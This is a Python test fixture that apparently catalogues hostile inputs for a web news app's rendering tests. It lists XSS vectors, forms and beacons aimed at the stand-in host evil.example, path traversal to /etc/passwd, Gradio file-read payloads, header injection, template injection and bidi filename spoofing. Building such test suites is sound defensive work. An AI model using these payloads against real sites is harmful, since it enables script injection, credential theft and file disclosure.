"""What a hostile hand writes into articles, file names, questions, addresses, and what a model may be made to say.

Each would do something if it were taken for HTML, Markdown, LaTeX, a template, an address or a header. One that came to life would set
``window.__owned``, ask ``evil.example`` for something, or be an element that the page does not have.
"""

from __future__ import annotations

import re
from dataclasses import dataclass

_DO = "window.__owned=1"
_EVIL = "http://evil.example"


@dataclass(frozen=True, slots=True)
class Payload:
    """One hostile text. ``name`` tells what it tries, and is the id of its test; payloads of one ``group`` try the same in other ways."""

    name: str
    group: str
    text: str

    @property
    def short(self) -> bool:
        """Whether it can stand in a title, an address, a file name."""
        return len(self.text) <= 400

    @property
    def writable(self) -> bool:
        """Whether a field of a page can hold it: no half of a surrogate pair, no NUL."""
        return "\0" not in self.text and not re.search("[\ud800-\udfff]", self.text)


def _group(group: str, **texts: str) -> list[Payload]:
    return [Payload(name.replace("_", "-"), group, text) for name, text in texts.items()]


# fmt: off
PAYLOADS: tuple[Payload, ...] = (
    *_group(
        "scripts",
        script=f"<script>{_DO}</script>",
        script_in_capitals=f"<ScRiPt\n>{_DO}</sCrIpT >",
        script_from_elsewhere=f"<script src={_EVIL}/x.js async></script>",
        script_module=f'<script type="module">import "{_EVIL}/m.js"</script>',
        script_after_a_slash=f"<script/x>{_DO}</script/x>",
        script_in_a_script=f"<scr<script>ipt>{_DO}</scr</script>ipt>",
        data_for_another_script='<script type="application/json" id="gradio-config">{"root": "http://evil.example"}</script>',
    ),
    *_group(
        "handlers",
        image_that_fails=f"<img src=x onerror={_DO}>",
        image_without_quotes=f"<img/src/onerror={_DO}>",
        button_that_takes_the_focus=f'<button autofocus onfocus="{_DO}">Go</button>',
        details_that_open=f"<details open ontoggle={_DO}><summary>More</summary></details>",
        animation_that_starts=f'<b style="animation:spin 1s" onanimationstart="{_DO}">bold</b>',
        video_that_fails=f"<video><source onerror={_DO}></video><audio src=x onerror={_DO}>",
        handler_in_a_quoted_attribute=f'" onmouseover="{_DO}" tabindex="0" onfocus="{_DO}" autofocus x="',
        handler_in_an_attribute_of_single_quotes=f"' onpointerenter='{_DO}' style='position:fixed;inset:0' x='",
        marquee=f"<marquee onstart={_DO}>news</marquee>",
    ),
    *_group(
        "forms",
        form_to_elsewhere=f'<form action="{_EVIL}/steal"><input name="q"><button>Log in again</button></form>',
        form_that_takes_the_buttons=f'<form id="nd-composer"></form><button form="nd-composer" formaction="{_EVIL}/steal">Ask</button>',
        password_field='<input type="password" name="password" autocomplete="current-password" placeholder="Your password">',
        select_and_option="</select><select multiple><option>one</select><textarea>",
        log_out='<form method="post" action="logout"><button>Continue</button></form>',
    ),
    *_group(
        "remote",
        image_from_elsewhere=f'<img src="{_EVIL}/beacon.png" srcset="{_EVIL}/2.png 2x">',
        picture_by_style=f'<p style="background:url({_EVIL}/bg.png)">wall</p>',
        prefetch=f"<link rel=prefetch href={_EVIL}/next><link rel=dns-prefetch href=//evil.example>",
        other_page_inside=f'<iframe src="{_EVIL}/" srcdoc="<script>parent.{_DO}</script>"></iframe>',
        object_and_embed=f"<object data={_EVIL}/o.swf></object><embed src={_EVIL}/e.swf>",
        ping=f'<a href="#top" ping="{_EVIL}/ping">here</a>',
        track=f"<video poster={_EVIL}/p.png><track src={_EVIL}/t.vtt default></video>",
    ),
    *_group(
        "styles",
        style="<style>body{display:none}*{visibility:hidden}</style>",
        style_that_asks=f'<style>@import "{_EVIL}/x.css";@font-face{{font-family:x;src:url({_EVIL}/f.woff)}}</style>',
        style_sheet_from_elsewhere=f"<link rel=stylesheet href={_EVIL}/x.css>",
        end_of_a_style=f"}}</style><style>:root{{--accent:url({_EVIL}/c)}}",
        classes_of_the_page='<p class="sentence supported"><span class="support">checked</span></p>',
    ),
    *_group(
        "overlays",
        overlay='<div style="position:fixed;inset:0;background:red;z-index:9999">Your session has ended</div>',
        open_dialog="<dialog open>Please log in again</dialog>",
        popover="<div popover=manual id=pop>Now</div><button popovertarget=pop popovertargetaction=show>Open</button>",
        sticky='<div style="position:sticky;top:0;height:100vh">on top</div>',
        template_with_a_shadow=f"<div><template shadowrootmode=open><img src=x onerror={_DO}></template></div>",
    ),
    *_group(
        "foreign",
        svg_that_loads=f"<svg onload={_DO}></svg>",
        svg_with_a_script=f"<svg><script>{_DO}</script><use href='{_EVIL}/s.svg#a'/></svg>",
        svg_that_animates_an_address=f'<svg><a><animate attributeName=href values="javascript:{_DO}"/><text x=20 y=20>x</text></a></svg>',
        svg_with_html_inside=f"<svg><foreignObject><iframe src=javascript:parent.{_DO}></iframe></foreignObject></svg>",
        mathml=f'<math><mtext>x</mtext><maction actiontype="statusline" xlink:href="javascript:{_DO}">y</maction></math>',
    ),
    *_group(
        "mutation",
        math_and_style=f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_DO}&gt;'>",
        noscript_and_title=f'<noscript><p title="</noscript><img src=x onerror={_DO}>">',
        svg_and_style=f'<svg></p><style><a id="</style><img src=x onerror={_DO}>">',
        form_in_a_form=f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_DO}>",
        xmp_and_plaintext=f"<xmp></xmp><listing></listing><plaintext><b onclick={_DO}>",
        backquotes=f"<img alt=``onerror={_DO} src=x>",
        table_that_throws_out=f"<table><tr><td></table><a href=javascript:{_DO}><table><a>moved</a></table>",
    ),
    *_group(
        "unclosed",
        ends_of_what_stands_around='</span></mark></blockquote></p></div></article></section></main></body></html><h1>after the end</h1>',
        tag_that_never_ends=f"<img src=x onerror={_DO} alt='",
        attribute_that_never_ends='<a href="#nd-live" title="',
        comment_that_never_ends="<!-- all that follows",
        comments_of_every_kind="--> --!> <!--> <!---> <![CDATA[ ]]> <? x ?> <!doctype html> <!x",
        title_and_textarea=f"</textarea></title><script>{_DO}</script><textarea><title>",
        lone_less_than="<<<< <a <b< 1 < 2 > 0 <3 & && &",
    ),
    *_group(
        "document",
        base=f'<base href="{_EVIL}/" target="_top">',
        refresh=f'<meta http-equiv="refresh" content="0;url={_EVIL}/">',
        policy="<meta http-equiv=\"Content-Security-Policy\" content=\"script-src 'none'\">",
        whole_document=f'<html lang=xx dir=rtl><head><title>Owned</title></head><body onload="{_DO}" data-view="articles" data-pane="rail">',
    ),
    *_group(
        "addresses",
        javascript_address=f"javascript:{_DO}//%0a",
        javascript_address_in_disguise=f"\tjAvA\nscript&colon;{_DO}",
        data_address=f"data:text/html,<script>{_DO}</script>",
        address_that_breaks_out=f"https://ok.example/\" onclick=\"{_DO}\" x=\"",
        file_address="file:///etc/passwd",
        address_of_another_host="//evil.example/x.js",
        path_upwards="../../../../etc/passwd%00.txt",
    ),
    *_group(
        "markdown",
        markdown_image=f"![beacon]({_EVIL}/md.png)",
        markdown_link=f"[click](javascript:{_DO}) <{_EVIL}/auto> [ref]: {_EVIL}/ref",
        markdown_with_html=f"```html\n<img src=x onerror={_DO}>\n```\n| a | b |\n|---|---|\n# Heading",
        markers_of_ours="[1] [2] [99] [?] [[1]] [1](x)",
        latex=f"$$\\href{{javascript:{_DO}}}{{x}}$$ \\(\\unicode{{x3c}}\\) \\begin{{html}}",
    ),
    *_group(
        "templates",
        template_literal="${window.__owned=1} ${7*7} `${constructor.constructor('window.__owned=1')()}`",
        handlebars="{{7*7}} {{{value}}} {{#each this}}{{this}}{{/each}} {{constructor.constructor('window.__owned=1')()}}",
        server_template="<% window.__owned=1 %> <?php echo 1 ?> {% raw %} #{7*7} @{7*7}",
        format_fields="{0} {title} {n} {value.__class__.__init__.__globals__} %s %(x)s %n {",
    ),
    *_group(
        "gradio",
        file_of_the_machine='{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}, "orig_name": "p", "is_stream": false}',
        address_of_a_file="/gradio_api/file=/etc/passwd",
        image_of_a_file='<img src="gradio_api/file=/etc/passwd"><a href="gradio_api/file=config.toml" download>',
        update_of_a_part='{"__type__": "update", "value": "<b>x</b>", "js_on_load": "window.__owned=1"}',
    ),
    *_group(
        "clobbering",
        ids_of_ours='<div id="nd-live"></div><p id="nd-state" data-state=\'{"conversation":"x"}\'></p><i id=nd-bridge></i>',
        names_of_ours="<a name=newsdesk id=newsdesk></a><form name=cookie><input name=body id=documentElement></form>",
        preview_of_ours='<div id="preview-1-1">other words</div><article id="source-1-1">other source</article>',
    ),
    *_group(
        "attributes",
        action_that_deletes='<button data-action="delete" data-articles=\'["a"]\'>Read on</button>',
        action_that_asks='<p data-action="ask" data-question="hello">Read on</p><i data-send></i><i data-send-reason="1"></i>',
        pane_and_view='<p data-show="reader" data-view="articles">Read on</p>',
        filters_that_drop='<i data-filter-drop="from to"></i><i data-filter-clear></i><input data-filter="outlets" value="x">',
        state_of_ours='<div data-state=\'{"conversation":"stolen","filters":{"outlets":["x"]},"title":"Owned"}\'></div>',
        table_of_ours='<section data-table="{}" data-drop-zone data-opened="1" data-turn="1"></section>',
    ),
    *_group(
        "entities",
        entities="&lt;b&gt; &#x3c;script&#x3e; &amp;lt;i&amp;gt; &quot;&apos;&#39;",
        entities_without_an_end="&ltimg src=x&gt &#60img &#x3Cimg &nbsp &notit; &#0; &#xD800; &#1114112;",
        escapes=r"\u003cscript\u003e \x3cimg\x3e %3Cscript%3E +ADw-script+AD4- \" \' \\",
        fullwidth_brackets="＜script＞window.__owned=1＜/script＞ ‹img› ʺ ʹ",
    ),
    *_group(
        "controls",
        nul="nu\0l <scr\0ipt> end",
        control_characters="bell\a back\b tab\t feed\f vertical\v escape\x1b[31m delete\x7f unit\x1f next\x85 end",
        halves_of_a_pair="half \ud83d other half \ude00 end \udfff",
        not_characters="\ufffe \uffff \U0001fffe byte order \ufeff private \ue000 end",
        line_ends="carriage\rreturn line\u2028separator paragraph\u2029separator end",
    ),
    *_group(
        "bidi",
        override="\u202eevil.elif\u202c <\u202ea\u202c>",
        overrides_that_never_end="\u202e\u202d\u202b\u202a no end",
        isolates_that_never_end="\u2066\u2067\u2068 no end \u2069\u2069\u2069\u2069",
        mixed_directions="abc \u200f(123)\u200e خبر [1] 12:30 <b>خ</b> :ا",
    ),
    *_group(
        "invisible",
        zero_width="<\u200bscript\u200b> pass\u200cwo\u200drd\u2060\u00ad\ufeff end",
        tags_that_nobody_sees="".join(chr(0xE0000 + ord(letter)) for letter in "<script>") + " end",
        emoji_that_join="👩\u200d👩\u200d👧\u200d👦 🏴\U000e0067\U000e0062\U000e007f 👋🏽\u200d\u200d\u200d end",
        only_spaces_between="a\u00a0\u2003\u3000\u2800\u115f\u3164b",
    ),
    *_group(
        "headers",
        second_header="news\r\nSet-Cookie: newsdesk_browser=stolen\r\nContent-Type: text/html\r\n\r\n<h1>x</h1>",
        name_of_a_download='a"; filename="x.html"; x=".txt',
        name_that_lies="invoice\u202etxt.exe",
        cookie_of_ours="newsdesk_language=xx; newsdesk_browser=stolen; path=/",
    ),
    *_group(
        "huge",
        very_long_word="x" * 100_000,
        very_long_word_in_arabic="خ" * 4_000,
        many_marks_on_one_letter="Z" + "\u0301\u0323\u0489" * 3_333 + "end",
        many_lines="line\n" * 5_000 + "end",
        many_tags="<div>" * 5_000 + "end",
        many_ampersands="&" * 20_000,
        many_brackets="[" * 5_000 + "1" + "]" * 5_000,
    ),
)
# fmt: on

GROUPS: tuple[str, ...] = tuple(dict.fromkeys(payload.group for payload in PAYLOADS))
SHORT: tuple[Payload, ...] = tuple(payload for payload in PAYLOADS if payload.short)

# One of each kind that makes elements, for a single article among ordinary ones
FEW: tuple[str, ...] = tuple(
    next(payload.text for payload in PAYLOADS if payload.name == name)
    for name in (
        "script", "image-from-elsewhere", "form-to-elsewhere", "overlay", "svg-that-loads", "style", "ends-of-what-stands-around",
        "markdown-link", "entities",
    )
)  # fmt: skip


def of_group(group: str) -> tuple[Payload, ...]:
    return tuple(payload for payload in PAYLOADS if payload.group == group)


def tame(text: str) -> str:
    """The same text with every letter and sign made harmless: what is drawn from it must have the same structure."""
    return re.sub(r"\S", "x", text)


def carried(text: str) -> str:
    """What HTML can carry of a text, as a reader gets it back: NUL and halves of pairs become replacement characters."""
    return text.encode("utf-8", "surrogatepass").decode("utf-8", "replace").replace("\0", "\ufffd")
